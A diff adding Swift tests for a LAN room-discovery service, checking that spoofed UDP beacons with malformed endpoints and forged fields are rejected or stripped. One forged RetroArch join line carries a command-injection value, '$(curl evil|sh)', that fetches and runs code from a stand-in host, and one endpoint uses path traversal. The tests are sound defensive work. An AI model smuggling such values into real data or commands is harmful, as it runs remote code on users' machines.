@@ -323,6 +323,38 @@ struct DiscoveryProcessTests {
         let plain = try #require(try discovery.list(RoomFilter(source: .lanBeacon)).rooms.first { $0.roomId == "lan:127.0.0.3:plain" })
         #expect(plain.hostEndpoint == "udp://127.0.0.3")
 
+        // Endpoints libzmq would take for another place: "012" is octal 10 to getaddrinfo, a
+        // path after the port, another scheme. Each was believed as naming its sender.
+        for (id, endpoint) in [("octal", "tcp://127.0.0.012:7300"), ("path", "tcp://127.0.0.3:7300/x"),
+                               ("ipc", "ipc://127.0.0.3:1/../../run/x.sock"), ("noport", "tcp://127.0.0.3:"),
+                               ("bigport", "tcp://127.0.0.3:70000")] {
+            #expect(liar.send(try beacon(id, endpoint: endpoint), to: target))
+        }
+        // What a beacon says beyond its host is not believed: a RetroArch join line (netplayctl
+        // showed it as a command to paste), a relay, a region, slots; nor a source that would
+        // let it skip the player-count rule.
+        var lying = makeRoom("ignored", transport: .relay, region: "eu")
+        lying.hostEndpoint = "tcp://127.0.0.3:7300"
+        lying.retroarchJoin = "127.0.0.3|55435|$(curl evil|sh)"
+        lying.relayEndpoint = "tcp://6.6.6.6:7300"
+        lying.slots = [RoomSlot(slot: 1, occupied: true, playerName: "ghost")]
+        lying.source = .lobby
+        #expect(liar.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: 1, beaconId: "fields", sequence: 1, intervalMs: 20_000, room: lying)), to: target))
+        var noPlayers = lying
+        noPlayers.source = .retroarchLan
+        noPlayers.maxPlayers = 0
+        #expect(liar.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: 1, beaconId: "noplayers", sequence: 1, intervalMs: 20_000, room: noPlayers)), to: target))
+        #expect(eventually(within: 5) { beaconRoomIds(discovery).contains("lan:127.0.0.3:fields") })
+        usleep(200_000)
+        #expect(beaconRoomIds(discovery) == newest.union(["lan:127.0.0.3:plain", "lan:127.0.0.3:fields"]), "\(beaconRoomIds(discovery).sorted())")
+        let fields = try #require(try discovery.list(RoomFilter(source: .lanBeacon)).rooms.first { $0.roomId == "lan:127.0.0.3:fields" })
+        #expect(fields.retroarchJoin.isEmpty && fields.relayEndpoint.isEmpty && fields.region.isEmpty && fields.slots.isEmpty, "\(fields)")
+        #expect(fields.source == .lanBeacon && fields.transport == .lan && fields.hostName == lying.hostName)
+        for id in ["fields", "noplayers"] {
+            #expect(liar.send(try LanBeaconCodec.encode(LanBeacon(protocolVersion: 1, beaconId: id, sequence: 2, intervalMs: 20_000, room: lying, goodbye: true)), to: target))
+        }
+        #expect(eventually(within: 5) { !beaconRoomIds(discovery).contains("lan:127.0.0.3:fields") })
+
         // Seventy sources of four rooms each: 256 rooms in all, the least recently heard gone.
         var sockets: [UDPSocket] = []
         for source in 0..<70 {
